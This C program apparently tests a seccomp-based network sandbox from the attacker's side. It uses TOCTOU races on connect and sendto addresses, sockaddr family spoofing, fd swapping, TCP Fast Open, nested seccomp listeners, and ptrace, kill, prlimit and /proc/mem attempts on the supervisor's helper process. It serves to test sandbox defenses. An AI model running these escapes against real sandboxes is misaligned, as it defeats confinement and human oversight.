/* attack4_fastpath: attacks on the fast path (allowed connects and datagrams
 * answered CONTINUE, the kernel reading the address and the fd number again).
 *
 *   proxy-flip OKHOST OKPORT PROXYHOST PROXYPORT N
 *       TCP connects to an address another thread flips between an allowed
 *       destination and the proxy; whenever a connection ends up at the proxy
 *       itself (getpeername), not at a relay in front of it, sends a SOCKS4
 *       request by address on it. Prints "direct=D ok=O refused=R other=X".
 *   variants OKHOST OKPORT BAD4HOST BAD4PORT BAD6PORT N
 *       UDP sendto of a 28-byte address buffer that another thread rewrites
 *       between the allowed sockaddr_in and forbidden spellings: a plain
 *       sockaddr_in, the same with family AF_UNSPEC (udp_sendmsg takes it as
 *       AF_INET), a v4-mapped sockaddr_in6 and [::1]:BAD6PORT; a second thread
 *       swaps the fd number between an IPv4 UDP socket, an IPv6 UDP socket, a
 *       unix datagram socket and a netlink socket. Prints
 *       "ok=O refused=R other=X".
 *   tfo HOST PORT
 *       a TCP Fast Open sendto (MSG_FASTOPEN) to HOST:PORT whose data is a
 *       SOCKS4 request by address, then sendmsg likewise on a second socket.
 *       Prints "sendto: ok" / "sendmsg: ok" or "OP: errno=E".
 *   socks4-to HOST PORT
 *       connects to HOST:PORT (IPv4 or IPv6 spelling, e.g. 0.0.0.0 or
 *       ::ffff:0.0.0.0) and sends a SOCKS4 request by address on it. Prints
 *       "connect: ok" or "connect: errno=E".
 *   nested HOST PORT
 *       installs a seccomp filter of its own that sends connect() to a
 *       user-notification listener it holds (answering CONTINUE from a
 *       thread), then connects to HOST:PORT (IPv4) and writes "x". Prints
 *       "listener: ok" or "listener: errno=E" (then installs the filter
 *       without a listener: "filter: ok"), and "connect: ok" or
 *       "connect: errno=E".
 *   sc-storm THREADS N          (i386 builds only)
 *       THREADS threads each make N UDP sockets through
 *       socketcall(SYS_SOCKET) (made by the socket maker) and close them;
 *       prints "storm: made=M wrong=W failed=F" (wrong: not an inet UDP
 *       socket)
 *   maker
 *       finds the socket maker (comm "sockstrace-mkr") and tries to reach it:
 *       kill, ptrace, prlimit, its /proc entries, pidfd_getfd of its channel.
 *       One line per try: "NAME ok" or "NAME errno=E".
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/netlink.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

static volatile int stop_flag;

static void usage(void) {
    fprintf(stderr, "usage: attack4_fastpath proxy-flip|variants|maker ...\n");
    exit(2);
}

static struct sockaddr_in addr4(const char *host, const char *port) {
    struct sockaddr_in sin;
    memset(&sin, 0, sizeof(sin));
    sin.sin_family = AF_INET;
    sin.sin_port = htons((uint16_t)atoi(port));
    if (inet_pton(AF_INET, host, &sin.sin_addr) != 1)
        usage();
    return sin;
}

/* ---- proxy-flip ---- */

static struct sockaddr_in flip_ok, flip_proxy;
static struct sockaddr_in flip_shared;

static void *connect_flipper(void *arg) {
    (void)arg;
    volatile struct sockaddr_in *t = &flip_shared;
    while (!stop_flag) {
        t->sin_addr = flip_proxy.sin_addr;
        t->sin_port = flip_proxy.sin_port;
        t->sin_addr = flip_ok.sin_addr;
        t->sin_port = flip_ok.sin_port;
    }
    return NULL;
}

static int proxy_flip(char **argv) {
    flip_ok = addr4(argv[0], argv[1]);
    flip_proxy = addr4(argv[2], argv[3]);
    long n = atol(argv[4]);
    flip_shared = flip_ok;
    pthread_t t;
    pthread_create(&t, NULL, connect_flipper, NULL);
    long direct = 0, ok = 0, refused = 0, other = 0;
    /* SOCKS4 CONNECT to 192.0.2.1:80 by address, user "x". */
    static const unsigned char socks4[] = {4, 1, 0, 80, 192, 0, 2, 1, 'x', 0};
    for (long i = 0; i < n; i++) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(s, (struct sockaddr *)&flip_shared, sizeof(flip_shared)) == 0) {
            ok++;
            struct sockaddr_in peer;
            socklen_t len = sizeof(peer);
            if (getpeername(s, (struct sockaddr *)&peer, &len) == 0 &&
                peer.sin_addr.s_addr == flip_proxy.sin_addr.s_addr && peer.sin_port == flip_proxy.sin_port) {
                direct++;
                (void)!write(s, socks4, sizeof(socks4));
            }
        } else if (errno == EPERM) {
            refused++;
        } else {
            other++;
        }
        close(s);
    }
    stop_flag = 1;
    pthread_join(t, NULL);
    printf("direct=%ld ok=%ld refused=%ld other=%ld\n", direct, ok, refused, other);
    return 0;
}

/* ---- variants ---- */

#define NVARIANTS 4
static unsigned char var_ok[28];
static unsigned char var_bad[NVARIANTS][28];
static unsigned char var_shared[28] __attribute__((aligned(8)));
static volatile int var_fd = -1;

static void *variant_flipper(void *arg) {
    (void)arg;
    volatile unsigned char *t = var_shared;
    for (unsigned i = 0; !stop_flag; i++) {
        const unsigned char *bad = var_bad[i % NVARIANTS];
        for (int k = 0; k < 28; k++)
            t[k] = bad[k];
        for (int k = 0; k < 28; k++)
            t[k] = var_ok[k];
    }
    return NULL;
}

static void *variant_swapper(void *arg) {
    (void)arg;
    for (unsigned i = 0; !stop_flag; i++) {
        int s;
        switch (i % 4) {
        case 0: s = socket(AF_INET, SOCK_DGRAM, 0); break;
        case 1: s = socket(AF_INET6, SOCK_DGRAM, 0); break;
        case 2: s = socket(AF_UNIX, SOCK_DGRAM, 0); break;
        default: s = socket(AF_NETLINK, SOCK_DGRAM, NETLINK_ROUTE); break;
        }
        if (s < 0)
            continue;
        dup2(s, var_fd);
        close(s);
    }
    return NULL;
}

static int variants(char **argv) {
    struct sockaddr_in ok = addr4(argv[0], argv[1]);
    struct sockaddr_in bad = addr4(argv[2], argv[3]);
    uint16_t bad6port = htons((uint16_t)atoi(argv[4]));
    long n = atol(argv[5]);
    memcpy(var_ok, &ok, sizeof(ok));
    memcpy(var_bad[0], &bad, sizeof(bad));
    struct sockaddr_in unspec = bad;
    unspec.sin_family = AF_UNSPEC;
    memcpy(var_bad[1], &unspec, sizeof(unspec));
    struct sockaddr_in6 mapped;
    memset(&mapped, 0, sizeof(mapped));
    mapped.sin6_family = AF_INET6;
    mapped.sin6_port = bad.sin_port;
    mapped.sin6_addr.s6_addr[10] = 0xff;
    mapped.sin6_addr.s6_addr[11] = 0xff;
    memcpy(&mapped.sin6_addr.s6_addr[12], &bad.sin_addr, 4);
    memcpy(var_bad[2], &mapped, sizeof(mapped));
    struct sockaddr_in6 lo6;
    memset(&lo6, 0, sizeof(lo6));
    lo6.sin6_family = AF_INET6;
    lo6.sin6_port = bad6port;
    lo6.sin6_addr = in6addr_loopback;
    memcpy(var_bad[3], &lo6, sizeof(lo6));
    memcpy(var_shared, var_ok, sizeof(var_shared));
    var_fd = socket(AF_INET, SOCK_DGRAM, 0);
    pthread_t flip, swap;
    pthread_create(&flip, NULL, variant_flipper, NULL);
    pthread_create(&swap, NULL, variant_swapper, NULL);
    long oks = 0, refused = 0, other = 0;
    for (long i = 0; i < n; i++) {
        ssize_t r = sendto(var_fd, "x", 1, MSG_DONTWAIT, (struct sockaddr *)var_shared, sizeof(var_shared));
        if (r >= 0)
            oks++;
        else if (errno == EPERM)
            refused++;
        else
            other++;
    }
    stop_flag = 1;
    pthread_join(flip, NULL);
    pthread_join(swap, NULL);
    printf("ok=%ld refused=%ld other=%ld\n", oks, refused, other);
    return 0;
}

/* ---- maker ---- */

static void report(const char *name, long r) {
    if (r >= 0)
        printf("%s ok\n", name);
    else
        printf("%s errno=%d\n", name, errno);
    fflush(stdout);
}

/* The parent of PID, from /proc/PID/status; -1 if unknown. */
static pid_t parent_of(pid_t pid) {
    char path[64], buf[4096] = {0};
    snprintf(path, sizeof(path), "/proc/%d/status", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return -1;
    ssize_t r = read(fd, buf, sizeof(buf) - 1);
    close(fd);
    char *line = r > 0 ? strstr(buf, "\nPPid:") : NULL;
    return line ? (pid_t)atoi(line + 6) : -1;
}

/* Our run's maker: the process of that name whose parent is one of our
 * ancestors (the supervisor is the maker's parent, as the program's). Other
 * runs on the machine have makers of their own, which we must not touch. */
static pid_t find_maker(void) {
    pid_t ancestors[64];
    int n = 0;
    for (pid_t p = getppid(); p > 1 && n < 64; p = parent_of(p))
        ancestors[n++] = p;
    DIR *d = opendir("/proc");
    if (!d)
        return -1;
    struct dirent *e;
    pid_t found = -1;
    while (found < 0 && (e = readdir(d)) != NULL) {
        pid_t pid = atoi(e->d_name);
        if (pid <= 0)
            continue;
        char path[64], comm[64] = {0};
        snprintf(path, sizeof(path), "/proc/%d/comm", pid);
        int fd = open(path, O_RDONLY);
        if (fd < 0)
            continue;
        ssize_t r = read(fd, comm, sizeof(comm) - 1);
        close(fd);
        if (r <= 0 || strncmp(comm, "sockstrace-mkr", 14) != 0)
            continue;
        pid_t parent = parent_of(pid);
        for (int i = 0; i < n; i++)
            if (ancestors[i] == parent)
                found = pid;
    }
    closedir(d);
    return found;
}

static int maker(void) {
    pid_t pid = find_maker();
    if (pid < 0) {
        printf("maker not found\n");
        return 1;
    }
    printf("maker found\n");
    struct rlimit none = {0, 0};
    report("prlimit-nofile", prlimit(pid, RLIMIT_NOFILE, &none, NULL));
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/ns/net", pid);
    report("open-netns", open(path, O_RDONLY));
    snprintf(path, sizeof(path), "/proc/%d/mem", pid);
    report("open-mem", open(path, O_RDWR));
    snprintf(path, sizeof(path), "/proc/%d/fd/3", pid);
    report("open-fd", open(path, O_RDWR));
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    report("pidfd-open", pidfd);
    if (pidfd >= 0)
        report("pidfd-getfd", syscall(SYS_pidfd_getfd, pidfd, 3, 0));
    char buf[16];
    struct iovec local = {buf, sizeof(buf)}, remote = {(void *)0x400000, sizeof(buf)};
    report("process-vm-readv", process_vm_readv(pid, &local, 1, &remote, 1, 0));
    report("ptrace-attach", ptrace(PTRACE_ATTACH, pid, 0, 0));
    report("ptrace-seize", ptrace(PTRACE_SEIZE, pid, 0, 0));
    report("kill-stop", kill(pid, SIGSTOP));
    report("kill-kill", kill(pid, SIGKILL));
    return 0;
}

/* ---- tfo ---- */

static const unsigned char socks4_request[] = {4, 1, 0, 80, 192, 0, 2, 1, 'x', 0};

static int tfo(char **argv) {
    struct sockaddr_in proxy = addr4(argv[0], argv[1]);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    ssize_t r = sendto(s, socks4_request, sizeof(socks4_request), MSG_FASTOPEN, (struct sockaddr *)&proxy,
                       sizeof(proxy));
    report("sendto", r);
    int t = socket(AF_INET, SOCK_STREAM, 0);
    struct iovec iov = {(void *)socks4_request, sizeof(socks4_request)};
    struct msghdr msg = {0};
    msg.msg_name = &proxy;
    msg.msg_namelen = sizeof(proxy);
    msg.msg_iov = &iov;
    msg.msg_iovlen = 1;
    report("sendmsg", sendmsg(t, &msg, MSG_FASTOPEN));
    /* Let the peer read before the close. */
    usleep(300000);
    close(s);
    close(t);
    return 0;
}

/* ---- socks4-to ---- */

static int socks4_to(char **argv) {
    struct sockaddr_storage ss;
    memset(&ss, 0, sizeof(ss));
    socklen_t len;
    struct sockaddr_in *in4 = (struct sockaddr_in *)&ss;
    struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)&ss;
    uint16_t port = htons((uint16_t)atoi(argv[1]));
    if (inet_pton(AF_INET, argv[0], &in4->sin_addr) == 1) {
        in4->sin_family = AF_INET;
        in4->sin_port = port;
        len = sizeof(*in4);
    } else if (inet_pton(AF_INET6, argv[0], &in6->sin6_addr) == 1) {
        in6->sin6_family = AF_INET6;
        in6->sin6_port = port;
        len = sizeof(*in6);
    } else {
        usage();
        return 2;
    }
    int s = socket(ss.ss_family, SOCK_STREAM, 0);
    long r = connect(s, (struct sockaddr *)&ss, len);
    report("connect", r);
    if (r == 0) {
        (void)!write(s, socks4_request, sizeof(socks4_request));
        usleep(300000);
    }
    close(s);
    return 0;
}

/* ---- nested ---- */

static void *answer_continue(void *arg) {
    int listener = *(int *)arg;
    for (;;) {
        struct seccomp_notif req;
        memset(&req, 0, sizeof(req));
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0)
            return NULL;
        struct seccomp_notif_resp resp;
        memset(&resp, 0, sizeof(resp));
        resp.id = req.id;
        resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        (void)ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    }
}

static int nested(char **argv) {
    struct sockaddr_in dst = addr4(argv[0], argv[1]);
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {sizeof(code) / sizeof(code[0]), code};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    static int listener;
    listener = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
    report("listener", listener);
    if (listener >= 0) {
        pthread_t t;
        pthread_create(&t, NULL, answer_continue, &listener);
    } else {
        report("filter", syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog));
    }
    int s = socket(AF_INET, SOCK_STREAM, 0);
    long r = connect(s, (struct sockaddr *)&dst, sizeof(dst));
    report("connect", r);
    if (r == 0) {
        (void)!write(s, "x", 1);
        usleep(200000);
    }
    close(s);
    return 0;
}

/* ---- sc-storm ---- */

#ifdef SYS_socketcall
static long storm_n;
static volatile long storm_made, storm_wrong, storm_failed;

static int sockopt_int(int fd, int name) {
    int v = -1;
    socklen_t l = sizeof(v);
    return getsockopt(fd, SOL_SOCKET, name, &v, &l) == 0 ? v : -1;
}

static void *storm_thread(void *arg) {
    (void)arg;
    for (long i = 0; i < storm_n; i++) {
        long args[3] = {AF_INET, SOCK_DGRAM, 0};
        int fd = (int)syscall(SYS_socketcall, 1 /* SYS_SOCKET */, args);
        if (fd < 0) {
            __sync_fetch_and_add(&storm_failed, 1);
            continue;
        }
        if (sockopt_int(fd, SO_DOMAIN) != AF_INET || sockopt_int(fd, SO_PROTOCOL) != IPPROTO_UDP)
            __sync_fetch_and_add(&storm_wrong, 1);
        else
            __sync_fetch_and_add(&storm_made, 1);
        close(fd);
    }
    return NULL;
}

static int sc_storm(char **argv) {
    int threads = atoi(argv[0]);
    storm_n = atol(argv[1]);
    pthread_t t[256];
    if (threads < 1 || threads > 256)
        usage();
    for (int i = 0; i < threads; i++)
        pthread_create(&t[i], NULL, storm_thread, NULL);
    for (int i = 0; i < threads; i++)
        pthread_join(t[i], NULL);
    printf("storm: made=%ld wrong=%ld failed=%ld\n", storm_made, storm_wrong, storm_failed);
    return 0;
}
#endif

int main(int argc, char **argv) {
    if (argc < 2)
        usage();
    if (strcmp(argv[1], "proxy-flip") == 0 && argc == 7)
        return proxy_flip(argv + 2);
    if (strcmp(argv[1], "variants") == 0 && argc == 8)
        return variants(argv + 2);
    if (strcmp(argv[1], "tfo") == 0 && argc == 4)
        return tfo(argv + 2);
    if (strcmp(argv[1], "socks4-to") == 0 && argc == 4)
        return socks4_to(argv + 2);
    if (strcmp(argv[1], "nested") == 0 && argc == 4)
        return nested(argv + 2);
#ifdef SYS_socketcall
    if (strcmp(argv[1], "sc-storm") == 0 && argc == 4)
        return sc_storm(argv + 2);
#endif
    if (strcmp(argv[1], "maker") == 0)
        return maker();
    usage();
    return 2;
}
